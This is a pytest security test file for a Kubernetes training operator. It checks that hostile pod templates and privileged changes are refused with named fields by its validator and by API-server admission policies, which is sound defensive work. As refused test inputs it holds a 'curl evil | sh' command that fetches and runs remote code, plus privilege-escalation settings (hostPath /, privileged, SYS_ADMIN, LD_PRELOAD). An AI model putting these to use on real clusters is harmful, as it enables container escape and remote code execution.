"""A NetSenseJob grants nothing a training job does not need (operator/SECURITY.md; the README's Security, in short).

Hostile templates are refused by `netsense validate` (the spec's checks) and at admission by the CRD's CEL rules,
each naming the field (and, where a user might try it, why); the operator's service account is fenced by a
ValidatingAdmissionPolicy; the shaper is the operator's alone; no inline credential is copied out of the job."""

from __future__ import annotations

import copy
import json
import os
import subprocess

import pytest
import yaml

from netsense.spec import SpecError, parse_spec

SHAPED = {"workers": 2, "training": {"model": "mlp", "dataset": "digits", "maxSteps": 50},
          "network": {"profile": {"type": "static", "rate": "200Mbit"}}}


def _template(spec: dict | None = None, metadata: dict | None = None) -> dict:
    return {"podTemplate": {k: v for k, v in (("spec", spec), ("metadata", metadata)) if v is not None}}


def _trainer(**fields) -> dict:
    return _template({"containers": [{"name": "trainer", **fields}]})


# (what, spec fields, the field named, why). The field is what both `netsense validate` and the API server name
# (the server's CEL rules on lists name the list); "why" is None where the field is simply not in the allow-list.
HOSTILE = [
    ("host network", _template({"hostNetwork": True}), "spec.podTemplate.spec.hostNetwork", "shaped interface"),
    ("host PID", _template({"hostPID": True}), "spec.podTemplate.spec.hostPID", "every process"),
    ("host IPC", _template({"hostIPC": True}), "spec.podTemplate.spec.hostIPC", "IPC namespace"),
    ("hostPath of /", _template({"volumes": [{"name": "root", "hostPath": {"path": "/"}}],
                                 "containers": [{"name": "trainer",
                                                 "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]}),
     "spec.podTemplate.spec.volumes[0].hostPath", "node's filesystem"),
    ("a root pod, seccomp unconfined", _template({"securityContext": {"runAsUser": 0,
                                                                      "seccompProfile": {"type": "Unconfined"}}}),
     "spec.podTemplate.spec.securityContext", "security context"),
    ("a privileged trainer", _trainer(securityContext={"privileged": True}),
     "spec.podTemplate.spec.containers[0].securityContext", "non-root"),
    ("a capability for the trainer", _trainer(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
     "spec.podTemplate.spec.containers[0].securityContext", "no capabilities"),
    ("env on the shaper", _template({"containers": [{"name": "shaper",
                                                     "env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}]}),
     "spec.podTemplate.spec.containers[0].name", "operator's alone"),
    ("a mount on the shaper", _template({"volumes": [{"name": "x", "emptyDir": {}}], "containers": [
        {"name": "shaper", "volumeMounts": [{"name": "x", "mountPath": "/usr/sbin"}]}]}),
     "spec.podTemplate.spec.containers[0].name", "operator's alone"),
    ("NCCL on another interface", _trainer(env=[{"name": "NCCL_SOCKET_IFNAME", "value": "eth1"}]),
     "spec.podTemplate.spec.containers", "shaped interface"),
    ("gloo on another interface", _trainer(env=[{"name": "GLOO_SOCKET_IFNAME", "value": "eth1"}]),
     "spec.podTemplate.spec.containers", "shaped interface"),
    ("NCCL on InfiniBand", _trainer(env=[{"name": "NCCL_IB_HCA", "value": "mlx5_0"}]),
     "spec.podTemplate.spec.containers", "shaped interface"),
    ("an RDMA device", {"resources": {"limits": {"rdma/hca_shared_devices_a": 1}}}, "spec.resources",
     "past the shaper"),
    ("an RDMA device in the template", _trainer(resources={"limits": {"rdma/hca": 1}}),
     "spec.podTemplate.spec.containers", "past the shaper"),
    ("a service account", _template({"serviceAccountName": "admin"}), "spec.podTemplate.spec.serviceAccountName",
     "API server"),
    ("a node by name", _template({"nodeName": "gpu-1"}), "spec.podTemplate.spec.nodeName", "scheduler"),
    ("AppArmor unconfined", _template(metadata={"annotations": {
        "container.apparmor.security.beta.kubernetes.io/trainer": "unconfined"}}),
     "spec.podTemplate.metadata.annotations", "AppArmor"),
    ("a second network", _template(metadata={"annotations": {"k8s.v1.cni.cncf.io/networks": "ib-net"}}),
     "spec.podTemplate.metadata.annotations", "another network"),
    ("one container's seccomp unconfined", _template(metadata={"annotations": {
        "container.seccomp.security.alpha.kubernetes.io/trainer": "unconfined"}}),
     "spec.podTemplate.metadata.annotations", "seccomp profile"),
    ("a mount of the shaper's scratch volume", _trainer(volumeMounts=[{"name": "netsense-shaper-tmp",
                                                                       "mountPath": "/plant"}]),
     "spec.podTemplate.spec.containers[0].volumeMounts[0].name", "operator's volume"),
    ("a mount of the job's volume", _trainer(volumeMounts=[{"name": "netsense-job", "mountPath": "/etc/x"}]),
     "spec.podTemplate.spec.containers[0].volumeMounts[0].name", "operator's volume"),
    ("a URL with a password", _trainer(env=[{"name": "DATA_URL", "value": "s3://reader:hunter2@bucket.internal/x"}]),
     "spec.podTemplate.spec.containers[0].env[0].value", "secretKeyRef"),
    ("an inline credential", _trainer(env=[{"name": "WANDB_API_KEY", "value": "abc123"}]),
     "spec.podTemplate.spec.containers[0].env[0].value", "secretKeyRef"),
    ("the rendezvous variables", _trainer(env=[{"name": "RANK", "value": "0"}]),
     "spec.podTemplate.spec.containers[0].env[0].name", "set by the operator"),
    ("the operator's labels", _template(metadata={"labels": {"netsense.dev/job-uid": "x"}}),
     "spec.podTemplate.metadata.labels", "set by the operator"),
    ("the operator's volume", _template({"volumes": [{"name": "netsense-job", "emptyDir": {}}]}),
     "spec.podTemplate.spec.volumes[0].name", "operator's volume"),
    ("a service account token", _template({"volumes": [{"name": "t", "projected": {"sources": [
        {"serviceAccountToken": {"path": "token"}}]}}]}),
     "spec.podTemplate.spec.volumes[0].projected.sources[0].serviceAccountToken", "no service account token"),
    ("another command for the trainer", _trainer(command=["sh", "-c", "curl evil | sh"]),
     "spec.podTemplate.spec.containers[0].command", "netsense worker"),
    ("the restart policy", _template({"restartPolicy": "Always"}), "spec.podTemplate.spec.restartPolicy",
     "whole gang"),
    ("host aliases", _template({"hostAliases": [{"ip": "10.0.0.1", "hostnames": ["x"]}]}),
     "spec.podTemplate.spec.hostAliases", None),
    ("a mount propagating to the host", _trainer(volumeMounts=[{"name": "d", "mountPath": "/d",
                                                                "mountPropagation": "Bidirectional"}]),
     "spec.podTemplate.spec.containers[0].volumeMounts[0].mountPropagation", None),
]
IDS = [case[0] for case in HOSTILE]


def _spec(fields: dict) -> dict:
    return {**copy.deepcopy(SHAPED), **copy.deepcopy(fields)}


@pytest.mark.parametrize("what, fields, path, why", HOSTILE, ids=IDS)
def test_validate_refuses_a_hostile_template_naming_the_field_and_why(what, fields, path, why):
    with pytest.raises(SpecError) as e:
        parse_spec(_spec(fields))
    named = [str(i) for i in e.value.issues if i.path.startswith(path)]
    assert named, f"{what}: no error names {path}: {e.value}"
    assert why is None or any(why in text for text in named), f"{what}: the reason is missing: {named}"


def test_what_a_gpu_job_needs_is_allowed():
    """The cluster's side of a job: scheduling, data, pull secrets, a runtime class, NCCL's own settings, secrets
    by reference; unshaped, the fabric is the job's to choose."""
    template = {
        "metadata": {"labels": {"team": "ml"}, "annotations": {"prometheus.io/scrape": "true"}},
        "spec": {
            "nodeSelector": {"nvidia.com/gpu.present": "true"},
            "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
            "affinity": {"nodeAffinity": {}}, "priorityClassName": "training", "schedulerName": "volcano",
            "runtimeClassName": "nvidia", "imagePullSecrets": [{"name": "registry"}],
            "topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "kubernetes.io/hostname",
                                           "whenUnsatisfiable": "DoNotSchedule"}],
            "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "cifar100"}},
                        {"name": "shm", "emptyDir": {"medium": "Memory"}},
                        {"name": "creds", "secret": {"secretName": "s3"}}],
            "containers": [{"name": "trainer",
                            "env": [{"name": "NCCL_DEBUG", "value": "WARN"},
                                    {"name": "HF_ENDPOINT", "value": "https://mirror.internal:8443/hf"},
                                    {"name": "DB", "value": "postgres://reader@db.internal/runs"},
                                    {"name": "WANDB_API_KEY", "valueFrom": {"secretKeyRef": {"name": "w", "key": "k"}}}],
                            "envFrom": [{"secretRef": {"name": "s3"}}],
                            "volumeMounts": [{"name": "data", "mountPath": "/data", "readOnly": True}],
                            "resources": {"limits": {"nvidia.com/gpu": 1, "memory": "16Gi", "hugepages-2Mi": "1Gi"}}}],
        }}
    parse_spec(_spec({"podTemplate": template}))
    unshaped = _spec({"podTemplate": {"spec": {"containers": [
        {"name": "trainer", "env": [{"name": "NCCL_IB_HCA", "value": "mlx5_0"}],
         "resources": {"limits": {"rdma/hca": 1}}}]}}})
    del unshaped["network"]
    parse_spec(unshaped)


def test_a_shaped_trainer_has_its_transport_pinned_to_the_shaped_interface():
    """Variables a container's envFrom (a ConfigMap the job names) might carry lose to the pod's own env."""
    from netsense_operator import resources as res

    job = parse_spec(_spec({"podTemplate": {"spec": {"containers": [
        {"name": "trainer", "envFrom": [{"configMapRef": {"name": "nccl"}}]}]}}}), "pinned")
    trainer = res.worker_pod(job, "ns", "uid", 0, 0)["spec"]["containers"][0]
    env = {e["name"]: e["value"] for e in trainer["env"]}
    assert env["NCCL_SOCKET_IFNAME"] == env["GLOO_SOCKET_IFNAME"] == env["TP_SOCKET_IFNAME"] == "eth0"
    assert env["NCCL_IB_DISABLE"] == "1" and env["NCCL_NET"] == "Socket" and env["NCCL_COLLNET_ENABLE"] == "0"
    assert trainer["envFrom"] == [{"configMapRef": {"name": "nccl"}}]


def test_the_shaper_is_the_operators_alone_and_its_image_is_read_only():
    from netsense_operator import resources as res

    job = parse_spec(_spec({"podTemplate": {"spec": {"volumes": [{"name": "data", "emptyDir": {}}], "containers": [
        {"name": "trainer", "env": [{"name": "NCCL_DEBUG", "value": "INFO"}],
         "volumeMounts": [{"name": "data", "mountPath": "/data"}]}]}}}), "own")
    pod = res.worker_pod(job, "ns", "uid", 0, 0, "shaper@sha256:" + "1" * 64)
    shaper = pod["spec"]["initContainers"][0]
    assert shaper["image"] == "shaper@sha256:" + "1" * 64
    assert [e for e in shaper.get("env") or []] == []
    assert {m["name"] for m in shaper["volumeMounts"]} == {"netsense-run", "netsense-job", "netsense-shaper-tmp"}
    ctx = shaper["securityContext"]
    assert ctx["readOnlyRootFilesystem"] and not ctx["allowPrivilegeEscalation"]
    assert ctx["capabilities"] == {"drop": ["ALL"], "add": ["NET_ADMIN"]}
    trainer = pod["spec"]["containers"][0]
    assert trainer["securityContext"]["runAsNonRoot"] and trainer["securityContext"]["capabilities"] == {"drop": ["ALL"]}
    assert "/data" in {m["mountPath"] for m in trainer["volumeMounts"]}


def test_the_jobs_configmap_carries_no_pod_template():
    """A ConfigMap is readable by a namespace's `view` role; the template's env is not the worker's business."""
    from netsense_operator import resources as res

    job = parse_spec(_spec({"podTemplate": {"spec": {"containers": [
        {"name": "trainer", "env": [{"name": "HF_ENDPOINT", "value": "https://mirror.internal"}]}]}}}), "cm")
    text = json.dumps(res.config_map(job, "ns", "uid")["data"])
    assert "mirror.internal" not in text and "podTemplate" not in text
    assert json.loads(res.config_map(job, "ns", "uid")["data"]["job.json"])["spec"]["workers"] == 2


def test_the_shaper_writes_through_no_link_the_trainer_plants(tmp_path):
    """The shared volume is the trainer's too: a link at the shaper's temporary name must be replaced, never
    followed, or a root shaper would write wherever it points."""
    from netsense.shaping.queue import write_shared

    target = tmp_path / "elsewhere"
    target.write_text("untouched")
    summary = tmp_path / "queue.json"
    os.symlink(target, f"{summary}.tmp")
    write_shared(str(summary), '{"links": {}}')
    assert target.read_text() == "untouched"
    assert json.loads(summary.read_text()) == {"links": {}}
    assert not os.path.lexists(f"{summary}.tmp")


@pytest.mark.parametrize("addr, want", [("127.0.0.1:9090", ("127.0.0.1", 9090)), ("10.1.2.3:9100", ("10.1.2.3", 9100)),
                                        ("[::1]:9090", ("::1", 9090)), ("off", None)])
def test_the_metrics_address_is_explicit(addr, want):
    from netsense_operator.metrics import parse_addr

    assert parse_addr(addr) == want


@pytest.mark.parametrize("addr", [":9090", "9090", "localhost:http", "127.0.0.1:99999"])
def test_a_metrics_address_that_would_listen_everywhere_or_nowhere_is_refused(addr):
    from netsense_operator.main import main

    with pytest.raises(SystemExit) as e:
        main(["--metrics-addr", addr])
    assert e.value.code == 2


# ---- against the real API server -------------------------------------------------------------------------------

def _job(name: str, spec: dict) -> dict:
    return {"apiVersion": "netsense.dev/v1alpha1", "kind": "NetSenseJob", "metadata": {"name": name}, "spec": spec}


@pytest.mark.apiserver
@pytest.mark.parametrize("what, fields, path, why", HOSTILE, ids=IDS)
def test_the_api_server_refuses_a_hostile_template_naming_the_field(kube, ns, what, fields, path, why):
    from kubernetes import client

    with pytest.raises(client.ApiException) as e:  # strict field validation: what kubectl apply uses
        kube.custom.create_namespaced_custom_object("netsense.dev", "v1alpha1", ns, "netsensejobs",
                                                    _job("hostile", _spec(fields)), field_validation="Strict")
    message = json.loads(e.value.body)["message"]
    assert e.value.status in (400, 422) and path in message, message
    assert why is None or why in message, message


@pytest.mark.apiserver
def test_kubectl_apply_says_which_field_and_why(control_plane, ns, tmp_path):
    kubectl = os.path.join(control_plane.bin_dir, "kubectl")
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(_job("hostile", _spec(_template({"hostNetwork": True})))))
    out = subprocess.run([kubectl, "--kubeconfig", control_plane.kubeconfig, "-n", ns, "apply", "-f", str(path)],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode != 0
    assert "spec.podTemplate.spec.hostNetwork" in out.stderr and "shaped interface" in out.stderr, out.stderr
    path.write_text(yaml.safe_dump(_job("hostile", _spec(_template({"hostAliases": []})))))
    out = subprocess.run([kubectl, "--kubeconfig", control_plane.kubeconfig, "-n", ns, "apply", "-f", str(path)],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode != 0 and 'unknown field "spec.podTemplate.spec.hostAliases"' in out.stderr, out.stderr


# ---- the fence (netsense/spec/fence.py): the operator's own check and the API server's, from one table ----------

def _operators_pod(uid: str = "uid-1") -> dict:
    """What the operator builds for a shaped tta job with an output volume and a calibrated profile: every container
    and mount the fence's rules are about (the shaper with NET_ADMIN, the trainer's read-only view of the shaper's
    /tmp, the penalties ConfigMap)."""
    from netsense_operator import resources as res

    job = parse_spec(_spec({"output": {"claimName": "runs"},
                            "compression": {"method": "tta", "penalties": "configmap:fenced-penalties"}}), "fenced")
    return res.worker_pod(job, "ns", uid, 0, 0)


def _shaper(pod: dict) -> dict:
    return pod["spec"]["initContainers"][0]


def _trainer_of(pod: dict) -> dict:
    return pod["spec"]["containers"][0]


def _shaper_tmp_view(pod: dict) -> dict:
    return next(m for m in _trainer_of(pod)["volumeMounts"] if m["name"] == "netsense-shaper-tmp")


# For each rule of fence.POD_RULES (by path) and the annotations: a change to the operator's own pod that breaks it
# and leaves the pod valid otherwise (the API server validates a pod before admission sees it).
BREAKS = {
    "spec.hostNetwork": lambda p: p["spec"].update(hostNetwork=True),
    "spec.hostPID": lambda p: p["spec"].update(hostPID=True),
    "spec.hostIPC": lambda p: p["spec"].update(hostIPC=True),
    "spec.shareProcessNamespace": lambda p: p["spec"].update(shareProcessNamespace=True),
    "spec.automountServiceAccountToken": lambda p: p["spec"].update(automountServiceAccountToken=True),
    "spec.volumes*.hostPath": lambda p: p["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
    "spec.volumes*.projected.sources*.serviceAccountToken": lambda p: (
        p["spec"].update(serviceAccountName="default"),  # the API takes a projected token only with an account
        p["spec"]["volumes"].append({"name": "token", "projected": {"sources": [
            {"serviceAccountToken": {"path": "token"}}]}})),
    "spec.securityContext.sysctls": lambda p: p["spec"]["securityContext"].update(
        sysctls=[{"name": "net.ipv4.ip_unprivileged_port_start", "value": "0"}]),
    "spec.securityContext.seLinuxOptions.type": lambda p: p["spec"]["securityContext"].update(
        seLinuxOptions={"type": "spc_t"}),
    "spec.securityContext.seccompProfile.type": lambda p: p["spec"]["securityContext"].update(
        seccompProfile={"type": "Unconfined"}),
    "spec.securityContext.appArmorProfile.type": lambda p: p["spec"]["securityContext"].update(
        appArmorProfile={"type": "Unconfined"}),
    "containers*.securityContext.privileged": lambda p: _shaper(p)["securityContext"].update(
        privileged=True, allowPrivilegeEscalation=True),  # the API refuses privileged without escalation
    "containers*.securityContext.allowPrivilegeEscalation": lambda p: _trainer_of(p)["securityContext"].update(
        allowPrivilegeEscalation=True),
    "containers*.securityContext.procMount": lambda p: (
        p["spec"].update(hostUsers=False),  # the API takes an unmasked /proc only in a user namespace
        _shaper(p)["securityContext"].update(procMount="Unmasked")),
    "containers*.securityContext.seLinuxOptions.type": lambda p: _trainer_of(p)["securityContext"].update(
        seLinuxOptions={"type": "spc_t"}),
    "containers*.securityContext.seccompProfile.type": lambda p: _trainer_of(p)["securityContext"].update(
        seccompProfile={"type": "Unconfined"}),
    "containers*.securityContext.appArmorProfile.type": lambda p: _trainer_of(p)["securityContext"].update(
        appArmorProfile={"type": "Unconfined"}),
    "containers*.securityContext.capabilities.add*": lambda p: _shaper(p)["securityContext"]["capabilities"]["add"]
    .append("SYS_ADMIN"),
    "containers*.securityContext.capabilities.add": lambda p: _trainer_of(p)["securityContext"]["capabilities"]
    .update(add=["NET_ADMIN"]),
    "containers*.ports*.hostPort": lambda p: _trainer_of(p)["ports"][0].update(hostPort=8080),
    "containers*.volumeMounts*.readOnly": lambda p: _shaper_tmp_view(p).update(readOnly=False),
    "annotations": lambda p: p["metadata"].setdefault("annotations", {}).update(
        {"container.seccomp.security.alpha.kubernetes.io/trainer": "unconfined"}),
}


def _broken(what: str, uid: str = "uid-1") -> dict:
    pod = _operators_pod(uid)
    BREAKS[what](pod)
    return pod


def _rule_message(what: str) -> str:
    from netsense.spec import fence

    if what == "annotations":
        return fence.ANNOTATIONS_MESSAGE
    return next(r.message for r in fence.POD_RULES if r.path == what)


def test_every_rule_of_the_fence_has_a_pod_that_breaks_it():
    from netsense.spec import fence

    assert set(BREAKS) == {r.path for r in fence.POD_RULES} | {"annotations"}


def test_the_operators_own_pods_keep_every_rule_of_the_fence():
    from netsense.spec import fence

    pod = _operators_pod()
    assert fence.violations(pod) == []
    assert {v["name"] for v in pod["spec"]["volumes"]} == set(fence.OPERATOR_VOLUMES)
    BREAKS["containers*.volumeMounts*.readOnly"](pod)  # a change to one pod reaches no other
    assert fence.violations(_operators_pod()) == []
    from netsense_operator import resources as res

    unshaped = parse_spec({k: v for k, v in SHAPED.items() if k != "network"}, "plain")
    assert fence.violations(res.worker_pod(unshaped, "ns", "uid", 1, 0)) == []
    calibrating = parse_spec(_spec({"mode": "calibrate", "output": {"claimName": "runs"}}), "cal")
    assert fence.violations(res.worker_pod(calibrating, "ns", "uid", 0, 0)) == []


def test_the_calibration_pod_is_confined_as_the_trainer():
    """A calibrate job's one pod: the worker image's trainer, as confined as a worker's (non-root, no capability,
    no escalation, seccomp RuntimeDefault, no token), no shaper even where the job has a profile, no ports."""
    from netsense_operator import resources as res

    job = parse_spec(_spec({"mode": "calibrate", "compression": {"method": "tta",
                                                                 "penalties": "configmap:other"}}), "cal")
    pod, worker = res.worker_pod(job, "ns", "uid", 0, 0), res.worker_pod(parse_spec(_spec({}), "cal"), "ns", "uid", 0, 0)
    (trainer,), (worker_trainer,) = pod["spec"]["containers"], worker["spec"]["containers"]
    assert "initContainers" not in pod["spec"] and "ports" not in trainer
    assert trainer["securityContext"] == worker_trainer["securityContext"]
    for key in ("automountServiceAccountToken", "securityContext", "enableServiceLinks", "restartPolicy"):
        assert pod["spec"][key] == worker["spec"][key]
    assert trainer["command"][:3] == ["netsense", "calibrate", "/etc/netsense/job.json"]
    assert trainer["command"][-2:] == ["--termination-log", "/dev/termination-log"]
    assert [v["name"] for v in pod["spec"]["volumes"]] == ["netsense-job"]  # no penalties: a calibration reads none
    assert pod["metadata"]["labels"]["app.kubernetes.io/component"] == "calibrate"


@pytest.mark.parametrize("what", sorted(BREAKS))
def test_the_operator_checks_each_pod_against_the_fence_before_creating_it(what):
    from netsense.spec import fence

    said = fence.violations(_broken(what))
    assert any(_rule_message(what) in v for v in said), said


def _owned(uid: str, name: str = "owner") -> dict:
    return {"labels": {"netsense.dev/job-uid": uid}, "ownerReferences": [
        {"apiVersion": "netsense.dev/v1alpha1", "kind": "NetSenseJob", "name": name, "uid": uid, "controller": True}]}


@pytest.fixture
def as_operator(kube, ns, operator_kubeconfig):
    """(the operator's CoreV1Api, a job's UID): the fence loaded (the policies take a moment after the session
    fixture creates them)."""
    from kubernetes import client, config
    from support.kube import wait_for

    uid = kube.create_job(ns, "owner", {"suspend": True})["metadata"]["uid"]
    api = client.CoreV1Api(config.new_client_from_config(operator_kubeconfig))
    stray = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "stray"}}
    wait_for(lambda: "NetSenseJob's objects" in _refusal(lambda: api.create_namespaced_config_map(
        ns, stray, dry_run="All")), timeout=30, what="the fence")
    return api, uid


def _refusal(call) -> str:
    """The API server's message if it refuses the call, "" if it takes it."""
    from kubernetes import client

    try:
        call()
    except client.ApiException as e:
        return json.loads(e.body)["message"]
    return ""


@pytest.mark.apiserver
@pytest.mark.parametrize("what", sorted(BREAKS))
def test_the_api_server_refuses_the_operator_a_pod_that_breaks_the_fence_as_its_own_check_does(as_operator, ns, what):
    """Python's check and the generated CEL read one table: a pod each rule forbids is refused by both, for a
    reason both give."""
    from netsense.spec import fence

    api, uid = as_operator
    pod = _broken(what, uid)
    pod["metadata"].update(namespace=ns, **_owned(uid))
    said = fence.violations(pod)
    refused = _refusal(lambda: api.create_namespaced_pod(ns, pod, dry_run="All"))
    assert "denied request: " in refused, refused  # the fence's, not the pod's validation
    reason = refused.split("denied request: ", 1)[1]
    assert any(v.startswith(reason) for v in said), f"the server said {reason!r}; the operator's check {said}"


@pytest.mark.apiserver
def test_the_operators_account_may_create_and_delete_only_a_jobs_objects(kube, ns, as_operator):
    """The fence's first two policies: what the operator creates or deletes is a NetSenseJob's (a controller
    ownerReference and its UID label); its own pods pass; its Service is a headless one."""
    api, uid = as_operator
    pod = _operators_pod(uid)
    pod["metadata"].update(namespace=ns, **_owned(uid))
    assert _refusal(lambda: api.create_namespaced_pod(ns, pod, dry_run="All")) == ""
    stray = copy.deepcopy(pod)
    stray["metadata"] = {"name": "stray", "namespace": ns}
    assert "may create only a NetSenseJob's objects" in _refusal(
        lambda: api.create_namespaced_pod(ns, stray, dry_run="All"))
    lb = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "lb", **_owned(uid)},
          "spec": {"type": "LoadBalancer", "ports": [{"port": 80}]}}
    assert "headless rendezvous" in _refusal(lambda: api.create_namespaced_service(ns, lb, dry_run="All"))

    # Deletes: made by the admin, so that they exist; the operator's account may delete the job's alone.
    theirs = {"name": "theirs", "namespace": ns, "labels": {"app": "someone-elses"}}
    kube.core.create_namespaced_config_map(ns, {"metadata": theirs, "data": {}})
    kube.core.create_namespaced_pod(ns, {**copy.deepcopy(stray), "metadata": dict(theirs)})
    mine = {"name": "mine", "namespace": ns, **_owned(uid)}
    kube.core.create_namespaced_config_map(ns, {"metadata": mine, "data": {}})
    for call in (lambda: api.delete_namespaced_pod("theirs", ns, dry_run="All"),
                 lambda: api.delete_namespaced_config_map("theirs", ns, dry_run="All")):
        assert "may delete only a NetSenseJob's objects" in _refusal(call)
    assert _refusal(lambda: api.delete_namespaced_config_map("mine", ns, dry_run="All")) == ""


def test_ranks_spread_over_nodes_by_default_and_a_template_can_require_it():
    """One rank a node where the cluster has the nodes (preferred: a one-node cluster still runs the job); a
    job's podTemplate replaces the anti-affinity, e.g. to require it."""
    from netsense_operator import resources as res

    pod = res.worker_pod(parse_spec(_spec({}), "spread"), "ns", "uid-7", 0, 0)
    term, = pod["spec"]["affinity"]["podAntiAffinity"]["preferredDuringSchedulingIgnoredDuringExecution"]
    assert term["podAffinityTerm"]["topologyKey"] == "kubernetes.io/hostname"
    assert term["podAffinityTerm"]["labelSelector"]["matchLabels"] == {"netsense.dev/job-uid": "uid-7"}
    required = {"requiredDuringSchedulingIgnoredDuringExecution": [{"topologyKey": "kubernetes.io/hostname",
                                                                     "labelSelector": {"matchLabels": {"a": "b"}}}]}
    pod = res.worker_pod(parse_spec(_spec({"podTemplate": {"spec": {"affinity": {"podAntiAffinity": required}}}}),
                                    "spread"), "ns", "uid-7", 0, 0)
    assert pod["spec"]["affinity"]["podAntiAffinity"] == required
